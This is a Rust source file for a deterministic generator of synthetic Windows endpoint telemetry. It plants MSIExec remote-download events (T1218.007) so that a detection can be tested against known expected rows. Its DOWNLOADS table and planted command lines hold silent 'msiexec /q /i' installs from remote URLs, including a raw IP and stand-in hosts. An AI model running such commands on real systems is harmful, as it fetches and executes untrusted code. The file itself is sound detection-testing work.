//! `cimlake gen`: a deterministic generator of realistic endpoint telemetry, for tests and
//! benchmarks at lake scale, with planted MSIExec true positives and the detection rows they must
//! produce.
//!
//! The same configuration and seed always give the same bytes. Generation runs hour by hour, so
//! memory stays flat however large the output. What is realistic about it:
//! * images, command lines and parents from a weighted list of common Windows software;
//! * process GUIDs in Sysmon's shape, unique per process;
//! * per-host pid pools that wrap, so pids are reused within a host over time, and the same pids
//!   occur on every host (collisions across hosts);
//! * destination ports weighted like real traffic (mostly 443, then DNS, 80, SMB, RDP…);
//! * `msiexec.exe` at a chosen share of processes, mostly installing local packages with only
//!   internal traffic; exactly `positives` of them are planted T1218.007 downloads to 80/443.

pub mod writers;

use chrono::{DateTime, Duration, Utc};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// What to generate.
#[derive(Debug, Clone, PartialEq)]
pub struct GenConfig {
    pub seed: u64,
    pub hosts: u32,
    pub processes: u64,
    /// Average flows per process.
    pub flows_per_process: f64,
    pub start: DateTime<Utc>,
    pub hours: u32,
    /// Share of processes that are msiexec.exe (planted positives come on top).
    pub msiexec_share: f64,
    /// Planted true positives: msiexec processes downloading over 80/443.
    pub positives: u64,
}

impl GenConfig {
    /// A stable text form, hashed into the generated input's identity.
    pub fn describe(&self) -> String {
        format!(
            "seed={} hosts={} processes={} flows_per_process={} start={} hours={} msiexec_share={} positives={}",
            self.seed,
            self.hosts,
            self.processes,
            self.flows_per_process,
            self.start.to_rfc3339(),
            self.hours,
            self.msiexec_share,
            self.positives
        )
    }
}

/// A generated process start.
#[derive(Debug, Clone, PartialEq)]
pub struct Process {
    pub host: String,
    pub host_ip: String,
    pub time_us: i64,
    pub pid: i64,
    pub guid: String,
    pub image: &'static str,
    pub command_line: String,
    pub parent_pid: i64,
    pub parent_guid: String,
    pub parent_image: &'static str,
    pub parent_command_line: &'static str,
    pub user: String,
    pub integrity_level: &'static str,
    pub hash: String,
}

/// A generated network connection of a process.
#[derive(Debug, Clone, PartialEq)]
pub struct Flow {
    pub time_us: i64,
    pub transport: &'static str,
    pub src_port: i32,
    pub dest_ip: String,
    pub dest_port: i32,
    pub dest_hostname: Option<String>,
    pub bytes_in: i64,
    pub bytes_out: i64,
}

/// One row the MSIExec detection (cimlake mode) must return for a planted positive.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Expected {
    pub dest: String,
    pub process_id: i64,
    pub process_guid: String,
    pub dest_ip: String,
    pub dest_port: i32,
    pub count: u64,
}

impl Expected {
    pub const CSV_HEADER: &'static str = "dest,process_id,process_guid,dest_ip,dest_port,count";

    pub fn csv(&self) -> String {
        format!("{},{},{},{},{},{}", self.dest, self.process_id, self.process_guid, self.dest_ip, self.dest_port, self.count)
    }
}

struct Software {
    image: &'static str,
    args: &'static [&'static str],
    parent: usize,
    weight: u32,
    integrity: &'static str,
    system: bool,
}

const PARENTS: &[(&str, &str)] = &[
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe"),
    (r"C:\Windows\System32\cmd.exe", r#""C:\Windows\system32\cmd.exe" /c start.cmd"#),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"),
];

const SOFTWARE: &[Software] = &[
    Software { image: r"C:\Program Files\Google\Chrome\Application\chrome.exe", args: &["", " --type=renderer --lang=en-US", " --type=utility --utility-sub-type=network.mojom.NetworkService"], parent: 0, weight: 22, integrity: "Medium", system: false },
    Software { image: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", args: &["", " --type=renderer", " --no-startup-window"], parent: 0, weight: 12, integrity: "Medium", system: false },
    Software { image: r"C:\Windows\System32\svchost.exe", args: &[" -k netsvcs -p -s Schedule", " -k NetworkService -p -s Dnscache", " -k LocalServiceNetworkRestricted -p"], parent: 1, weight: 18, integrity: "System", system: true },
    Software { image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", args: &["", " /recycle"], parent: 0, weight: 6, integrity: "Medium", system: false },
    Software { image: r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe", args: &["", " --system-initiated"], parent: 0, weight: 6, integrity: "Medium", system: false },
    Software { image: r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", args: &[" /background"], parent: 0, weight: 5, integrity: "Medium", system: false },
    Software { image: r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", args: &[" -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\ops\\inventory.ps1", " Get-Service"], parent: 2, weight: 4, integrity: "High", system: false },
    Software { image: r"C:\Windows\System32\cmd.exe", args: &[" /c whoami", " /c ipconfig /all", " /c dir"], parent: 0, weight: 5, integrity: "Medium", system: false },
    Software { image: r"C:\Windows\System32\taskhostw.exe", args: &[""], parent: 3, weight: 6, integrity: "Medium", system: false },
    Software { image: r"C:\Program Files\Python311\python.exe", args: &[" -m pip install requests", " manage.py runserver"], parent: 2, weight: 2, integrity: "Medium", system: false },
    Software { image: r"C:\Windows\System32\wbem\WmiPrvSE.exe", args: &[" -Embedding"], parent: 3, weight: 4, integrity: "System", system: true },
    Software { image: r"C:\Windows\System32\MsMpEng.exe", args: &[""], parent: 1, weight: 3, integrity: "System", system: true },
];

const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";

const WEB: &[(&str, &str)] = &[
    ("142.250.72.14", "www.google.com"),
    ("13.107.42.14", "onedrive.live.com"),
    ("52.96.108.18", "outlook.office365.com"),
    ("20.190.151.7", "login.microsoftonline.com"),
    ("151.101.1.140", "www.reddit.com"),
    ("104.16.132.229", "cdn.jsdelivr.net"),
    ("140.82.112.3", "github.com"),
    ("185.199.108.133", "objects.githubusercontent.com"),
    ("23.55.161.18", "update.microsoft.com"),
    ("172.217.3.110", "clients2.google.com"),
];

const DOWNLOADS: &[(&str, &str, &str)] = &[
    ("140.82.112.3", "github.com", "https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1218.007/bin/T1218.007_JScript.msi"),
    ("45.77.65.211", "", "http://45.77.65.211/pkg.msi"),
    ("198.51.100.23", "download.vendor-tools.example", "https://download.vendor-tools.example/agent/7.2/agent-x64.msi"),
    ("203.0.113.50", "cdn.update-check.example", "http://cdn.update-check.example/u.msi"),
];

/// Distinct pids a host draws from: small enough that pids are reused within a host, and the
/// same on every host.
const PID_SLOTS: i64 = 1000;

/// The generator: an iterator over hours, each with its processes and their flows.
pub struct Generator {
    cfg: GenConfig,
    rng: ChaCha8Rng,
    hour: u32,
    next_process: u64,
    planted: Vec<u64>,
    pub expected: Vec<Expected>,
}

fn pick<'a, T>(rng: &mut ChaCha8Rng, items: &'a [T]) -> &'a T {
    &items[rng.random_range(0..items.len())]
}

pub fn host_name(i: u32) -> String {
    const DEPTS: [&str; 6] = ["eng", "fin", "hr", "ops", "sales", "dev"];
    format!("ws-{}-{:05}.corp.acme.example", DEPTS[(i % 6) as usize], i)
}

fn host_ip(i: u32) -> String {
    format!("10.{}.{}.{}", 20 + (i >> 16) % 200, (i >> 8) & 0xff, (i & 0xff).max(1))
}

fn guid(rng: &mut ChaCha8Rng, host: u32, time_us: i64) -> String {
    let secs = (time_us / 1_000_000) as u64;
    format!(
        "{{{:08X}-{:04X}-{:04X}-{:04X}-{:012X}}}",
        0x7C4B_0000u32 | (host & 0xffff),
        (secs >> 16) & 0xffff,
        secs & 0xffff,
        rng.random::<u16>(),
        rng.random::<u64>() & 0xffff_ffff_ffff
    )
}

fn hash(rng: &mut ChaCha8Rng) -> String {
    format!(
        "SHA256={:016X}{:016X}{:016X}{:016X}",
        rng.random::<u64>(),
        rng.random::<u64>(),
        rng.random::<u64>(),
        rng.random::<u64>()
    )
}

impl Generator {
    pub fn new(cfg: GenConfig) -> Self {
        let mut rng = ChaCha8Rng::seed_from_u64(cfg.seed);
        // Which process numbers are the planted positives.
        let mut planted: Vec<u64> = Vec::new();
        if cfg.processes > 0 {
            let n = cfg.positives.min(cfg.processes);
            let mut chosen = std::collections::BTreeSet::new();
            while (chosen.len() as u64) < n {
                chosen.insert(rng.random_range(0..cfg.processes));
            }
            planted = chosen.into_iter().collect();
        }
        Generator { rng, hour: 0, next_process: 0, planted, expected: Vec::new(), cfg }
    }

    pub fn config(&self) -> &GenConfig {
        &self.cfg
    }

    fn weighted_port(&mut self) -> (i32, &'static str) {
        let r = self.rng.random_range(0..100);
        match r {
            0..=59 => (443, "tcp"),
            60..=74 => (53, "udp"),
            75..=84 => (80, "tcp"),
            85..=88 => (445, "tcp"),
            89..=90 => (3389, "tcp"),
            91 => (22, "tcp"),
            92..=94 => (8080, "tcp"),
            _ => (self.rng.random_range(1024..65535), "tcp"),
        }
    }

    fn flow(&mut self, start: i64, port: i32, transport: &'static str, public: Option<(&str, &str)>) -> Flow {
        let time_us = start + self.rng.random_range(100_000..3_000_000_000i64);
        let (dest_ip, dest_hostname) = match (port, public) {
            (_, Some((ip, host))) => (ip.to_string(), (!host.is_empty()).then(|| host.to_string())),
            (53, None) => ("10.20.0.2".to_string(), None),
            (445 | 3389 | 22 | 8080, None) => {
                (format!("10.20.{}.{}", self.rng.random_range(0..8), self.rng.random_range(2..250)), None)
            }
            _ => {
                let (ip, host) = *pick(&mut self.rng, WEB);
                (ip.to_string(), Some(host.to_string()))
            }
        };
        Flow {
            time_us,
            transport,
            src_port: self.rng.random_range(49152..65535),
            dest_ip,
            dest_port: port,
            dest_hostname,
            bytes_in: self.rng.random_range(0..2_000_000),
            bytes_out: self.rng.random_range(0..200_000),
        }
    }

    /// The next hour's processes with their flows, or `None` when done.
    pub fn next_hour(&mut self) -> Option<Vec<(Process, Vec<Flow>)>> {
        if self.hour >= self.cfg.hours {
            return None;
        }
        let hours = u64::from(self.cfg.hours.max(1));
        let upto = self.cfg.processes * u64::from(self.hour + 1) / hours;
        let hour_start = (self.cfg.start + Duration::hours(i64::from(self.hour))).timestamp_micros();
        self.hour += 1;
        let mut out = Vec::with_capacity((upto - self.next_process) as usize);
        while self.next_process < upto {
            let n = self.next_process;
            self.next_process += 1;
            let planted = self.planted.binary_search(&n).is_ok();
            out.push(self.process(hour_start, planted));
        }
        out.sort_by_key(|(p, _)| p.time_us);
        Some(out)
    }

    fn process(&mut self, hour_start: i64, planted: bool) -> (Process, Vec<Flow>) {
        let host = self.rng.random_range(0..self.cfg.hosts.max(1));
        let time_us = hour_start + self.rng.random_range(0..3_600_000_000i64);
        let pid = 4 * (100 + self.rng.random_range(0..PID_SLOTS));
        let user = format!(r"ACME\user{:04}", host % 10_000);
        let msiexec = planted || self.rng.random_bool(self.cfg.msiexec_share.clamp(0.0, 1.0));
        let parent_idx;
        let (image, command_line, integrity, system) = if msiexec {
            parent_idx = if planted { 2 } else { 0 };
            let cmd = if planted {
                let (_, _, url) = *pick(&mut self.rng, DOWNLOADS);
                format!(r#"msiexec.exe /q /i "{url}""#)
            } else {
                format!(r#""{MSIEXEC}" /i "C:\Users\Public\Downloads\package{}.msi" /qn"#, self.rng.random_range(1..500))
            };
            (MSIEXEC, cmd, "High", false)
        } else {
            let total: u32 = SOFTWARE.iter().map(|s| s.weight).sum();
            let mut r = self.rng.random_range(0..total);
            let sw = SOFTWARE.iter().find(|s| {
                if r < s.weight {
                    true
                } else {
                    r -= s.weight;
                    false
                }
            }).expect("weights");
            parent_idx = sw.parent;
            let image: &'static str = sw.image;
            let args = *pick(&mut self.rng, sw.args);
            (image, format!(r#""{image}"{args}"#), sw.integrity, sw.system)
        };
        let user = if system { r"NT AUTHORITY\SYSTEM".to_string() } else { user };
        let (parent_image, parent_command_line) = PARENTS[parent_idx];
        let g = guid(&mut self.rng, host, time_us);
        let parent_guid = guid(&mut self.rng, host, time_us - 60_000_000);
        let process = Process {
            host: host_name(host),
            host_ip: host_ip(host),
            time_us,
            pid,
            guid: g,
            image,
            command_line: command_line.replace("{user}", &user.replace(r"ACME\", "")),
            parent_pid: 4 * (500 + i64::from(host % 300)),
            parent_guid,
            parent_image,
            parent_command_line,
            user,
            integrity_level: integrity,
            hash: hash(&mut self.rng),
        };
        let mut flows = Vec::new();
        if planted {
            let (ip, host_name, _) = *pick(&mut self.rng, DOWNLOADS);
            let n = self.rng.random_range(1..=3);
            for _ in 0..n {
                let port = if self.rng.random_bool(0.8) { 443 } else { 80 };
                flows.push(self.flow(time_us, port, "tcp", Some((ip, host_name))));
            }
            let mut per_dest: std::collections::BTreeMap<(String, i32), u64> = Default::default();
            for f in &flows {
                *per_dest.entry((f.dest_ip.clone(), f.dest_port)).or_default() += 1;
            }
            for ((dest_ip, dest_port), count) in per_dest {
                self.expected.push(Expected {
                    dest: process.host.clone(),
                    process_id: process.pid,
                    process_guid: process.guid.clone(),
                    dest_ip,
                    dest_port,
                    count,
                });
            }
        } else {
            let avg = self.cfg.flows_per_process.max(0.0);
            let n = if avg == 0.0 { 0 } else { self.rng.random_range(0..=((2.0 * avg).round() as u64)) };
            for _ in 0..n {
                let (mut port, transport) = self.weighted_port();
                if msiexec && (port == 80 || port == 443) {
                    // Unplanted installs only talk to the internal proxy.
                    port = 8080;
                }
                flows.push(self.flow(time_us, port, transport, None));
            }
        }
        flows.sort_by_key(|f| f.time_us);
        (process, flows)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(seed: u64) -> GenConfig {
        GenConfig {
            seed,
            hosts: 20,
            processes: 2000,
            flows_per_process: 4.0,
            start: DateTime::parse_from_rfc3339("2026-11-02T00:00:00Z").unwrap().with_timezone(&Utc),
            hours: 6,
            msiexec_share: 0.01,
            positives: 7,
        }
    }

    fn all(seed: u64) -> (Vec<(Process, Vec<Flow>)>, Vec<Expected>) {
        let mut g = Generator::new(cfg(seed));
        let mut out = Vec::new();
        while let Some(h) = g.next_hour() {
            out.extend(h);
        }
        (out, g.expected)
    }

    #[test]
    fn same_seed_same_data_other_seed_other_data() {
        let (a, ea) = all(42);
        let (b, eb) = all(42);
        assert_eq!(a, b);
        assert_eq!(ea, eb);
        let (c, _) = all(43);
        assert_ne!(a, c);
        assert_eq!(a.len(), 2000);
    }

    #[test]
    fn realistic_shapes() {
        let (all, expected) = all(7);
        let planted: Vec<_> = all.iter().filter(|(p, f)| p.image == MSIEXEC && f.iter().any(|f| f.dest_port == 443 || f.dest_port == 80)).collect();
        assert_eq!(planted.len(), 7);
        assert!(!expected.is_empty());
        // Pid reuse within a host and collisions across hosts.
        let mut by_host_pid = std::collections::HashMap::new();
        let mut pid_hosts: std::collections::HashMap<i64, std::collections::HashSet<&str>> = Default::default();
        for (p, _) in &all {
            *by_host_pid.entry((p.host.as_str(), p.pid)).or_insert(0) += 1;
            pid_hosts.entry(p.pid).or_default().insert(&p.host);
        }
        assert!(pid_hosts.values().any(|h| h.len() > 1), "no pid collisions across hosts");
        assert!(by_host_pid.values().any(|n| *n > 1), "no pid reuse within a host");
        let guids: std::collections::HashSet<&str> = all.iter().map(|(p, _)| p.guid.as_str()).collect();
        assert_eq!(guids.len(), all.len(), "GUIDs are unique");
        let flows: Vec<&Flow> = all.iter().flat_map(|(_, f)| f).collect();
        let share_443 = flows.iter().filter(|f| f.dest_port == 443).count() as f64 / flows.len() as f64;
        assert!((0.5..0.7).contains(&share_443), "{share_443}");
    }
}

/// Where `cimlake gen` writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum GenFormat {
    /// CIM rows straight into the lake (one commit).
    Lake,
    /// Sysmon XmlWinEventLog text.
    Xmlwineventlog,
    /// Cisco NVM key="value" syslog.
    NvmKv,
    /// Cisco NVM JSON lines.
    NvmJson,
}

/// The order of the events in generated logs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum GenOrder {
    /// In time order, all hosts together.
    #[default]
    Time,
    /// Host groups one after another, each in time order over the whole span: a merged export,
    /// whose time goes back at every group ([`HOST_GROUPS`] of them).
    Hosts,
}

/// How many host groups [`GenOrder::Hosts`] writes one after another.
pub const HOST_GROUPS: usize = 32;

/// What a generation produced.
#[derive(Debug)]
pub struct GenReport {
    pub processes: u64,
    pub flows: u64,
    pub expected: Vec<Expected>,
    /// The commit, when written to a lake.
    pub commit: Option<crate::lake::Commit>,
    /// The raw log file, when written as logs.
    pub file: Option<std::path::PathBuf>,
}

#[derive(Debug, thiserror::Error)]
pub enum GenError {
    #[error(transparent)]
    Lake(#[from] crate::lake::LakeError),
    #[error(transparent)]
    Convert(#[from] crate::convert::ConvertError),
    #[error("{0}: {1}")]
    Io(String, std::io::Error),
}

/// Generates into a lake (as one committed input) or as a raw log file in `dir`, in time order.
pub fn generate(
    cfg: &GenConfig,
    format: GenFormat,
    lake: &crate::lake::Lake,
    dir: &std::path::Path,
    progress: &dyn Fn(u64),
) -> Result<GenReport, GenError> {
    generate_in_order(cfg, format, GenOrder::Time, lake, dir, progress)
}

/// [`generate`], with the logs' events in `order` (the lake is written in time order).
pub fn generate_in_order(
    cfg: &GenConfig,
    format: GenFormat,
    order: GenOrder,
    lake: &crate::lake::Lake,
    dir: &std::path::Path,
    progress: &dyn Fn(u64),
) -> Result<GenReport, GenError> {
    use std::io::Write;
    let mut g = Generator::new(cfg.clone());
    let (mut processes, mut flows) = (0u64, 0u64);
    std::fs::create_dir_all(dir).map_err(|e| GenError::Io(dir.display().to_string(), e))?;
    let mut report = GenReport { processes: 0, flows: 0, expected: Vec::new(), commit: None, file: None };
    match format {
        GenFormat::Lake => {
            let id = blake3::hash(cfg.describe().as_bytes()).to_hex().to_string();
            let writes = crate::lake::Transactions::begin(lake)?;
            if let Some(first) = writes.find(&id) {
                // The same generation is already in the lake: nothing to add.
                while let Some(hour) = g.next_hour() {
                    for (_, f) in &hour {
                        processes += 1;
                        flows += f.len() as u64;
                    }
                }
                report.commit = Some(lake.commit(first.commit_id)?);
            } else {
                let source = format!("gen:{}", cfg.describe());
                let tx = writes.input(&id[..16]);
                let mut writer = tx.writer(None)?;
                let stats = (|| {
                    let mut out = crate::convert::Emitter::new(&mut writer);
                    let mut record = 0i64;
                    while let Some(hour) = g.next_hour() {
                        for (p, f) in &hour {
                            record += 1;
                            writers::emit(p, f, &source, record, &mut out)?;
                            processes += 1;
                            flows += f.len() as u64;
                        }
                        progress(processes);
                    }
                    out.finish()
                })();
                let stats = match stats {
                    Ok(s) => s,
                    Err(e) => {
                        tx.abort(vec![writer]);
                        return Err(e.into());
                    }
                };
                let input = crate::lake::InputRecord {
                    path: source,
                    hash: id,
                    head_hash: None,
                    bytes: 0,
                    container: None,
                    sourcetypes: Vec::new(),
                    stats,
                };
                report.commit = Some(match tx.commit(vec![writer], input)? {
                    crate::lake::Outcome::Published(c) => *c,
                    crate::lake::Outcome::Already(first) => lake.commit(first.commit_id)?,
                });
            }
            writes.finish()?;
        }
        GenFormat::Xmlwineventlog | GenFormat::NvmKv | GenFormat::NvmJson => {
            let name = match format {
                GenFormat::Xmlwineventlog => format!("sysmon-seed{}.log", cfg.seed),
                GenFormat::NvmKv => format!("nvm-seed{}.log", cfg.seed),
                _ => format!("nvm-seed{}.json", cfg.seed),
            };
            let path = dir.join(name);
            let io = |e| GenError::Io(path.display().to_string(), e);
            let file = std::fs::File::create(&path).map_err(io)?;
            let mut w = std::io::BufWriter::with_capacity(1 << 20, file);
            let json = format == GenFormat::NvmJson;
            if format != GenFormat::Xmlwineventlog {
                for h in 0..cfg.hosts {
                    writers::write_nvm_endpoint(&mut w, &host_name(h), json).map_err(io)?;
                }
            }
            // Host groups other than the first are spooled to anonymous files beside the output,
            // then appended: memory stays that of one hour.
            let groups = if order == GenOrder::Hosts { HOST_GROUPS } else { 1 };
            let mut spools = Vec::with_capacity(groups - 1);
            for _ in 1..groups {
                spools.push(std::io::BufWriter::with_capacity(1 << 16, tempfile::tempfile_in(dir).map_err(io)?));
            }
            let mut record = 0u64;
            while let Some(hour) = g.next_hour() {
                for (p, f) in &hour {
                    let group = if groups == 1 { 0 } else { (blake3::hash(p.host.as_bytes()).as_bytes()[0] as usize) % groups };
                    let out: &mut dyn Write = if group == 0 { &mut w } else { &mut spools[group - 1] };
                    match format {
                        GenFormat::Xmlwineventlog => writers::write_xml(out, p, f, &mut record).map_err(io)?,
                        _ => writers::write_nvm(out, p, f, json).map_err(io)?,
                    }
                    processes += 1;
                    flows += f.len() as u64;
                }
                progress(processes);
            }
            for spool in spools {
                let mut file = spool.into_inner().map_err(|e| io(e.into_error()))?;
                std::io::Seek::rewind(&mut file).map_err(io)?;
                std::io::copy(&mut file, &mut w).map_err(io)?;
            }
            w.flush().map_err(io)?;
            report.file = Some(path);
        }
    }
    let mut expected = std::mem::take(&mut g.expected);
    if matches!(format, GenFormat::NvmKv | GenFormat::NvmJson) {
        // NVM's process id is its puid: the GUID's hex digits.
        for e in &mut expected {
            e.process_guid = e.process_guid.trim_matches(['{', '}']).replace('-', "");
        }
    }
    expected.sort();
    let path = dir.join("expected.csv");
    let mut text = String::from(Expected::CSV_HEADER);
    text.push('\n');
    for e in &expected {
        text.push_str(&e.csv());
        text.push('\n');
    }
    std::fs::write(&path, text).map_err(|e| GenError::Io(path.display().to_string(), e))?;
    report.processes = processes;
    report.flows = flows;
    report.expected = expected;
    Ok(report)
}
